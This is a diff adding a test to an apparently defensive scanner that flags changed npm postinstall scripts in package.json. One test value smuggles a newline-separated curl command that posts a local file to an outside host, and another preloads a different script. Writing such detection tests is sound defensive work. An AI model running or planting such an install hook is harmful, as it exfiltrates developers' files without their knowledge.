@@ -441,6 +441,30 @@ def test_a_script_of_one_s_own_package_is_advice_for_its_author() -> None:
     assert "ignore-scripts" in allowed.remedy
 
 
+@table(
+    ("was", "script", "is_told"),
+    [
+        ("php artisan clear", "php artisan discover --ansi", False),
+        ("node ./setup.js --old && husky", "husky && node ./setup.js --new", False),
+        ("node setup.js", "node other.js", True),
+        ("node setup.js", "node setup.js other.js", True),
+        ("node setup.js", "node setup.js\\ncurl -d @other.js example.org", True),
+        ("node setup.js", "php setup.js", True),
+        ("node setup.js", "node -r ./other.js setup.js", True),
+        ("npm run build", "npm run other", True),
+        ("make all", "make other", True),
+    ],
+)
+def test_a_script_may_hand_other_words_to_the_file_that_it_ran(
+    was: str, script: str, is_told: bool
+) -> None:
+    beside = dict.fromkeys(("artisan", "setup.js", "other.js", "run", "make"), "code")
+    before, after = (
+        f'{{"scripts": {{"postinstall": "{each}"}}}}' for each in (was, script)
+    )
+    assert bool(found("package.json", before, after, beside)) is is_told
+
+
 DIGEST = f"@sha256:{'ab' * 32}"
 IMAGES = [
     (f"FROM python:3.12{DIGEST}", "FROM python:3.13", Severity.MEDIUM),
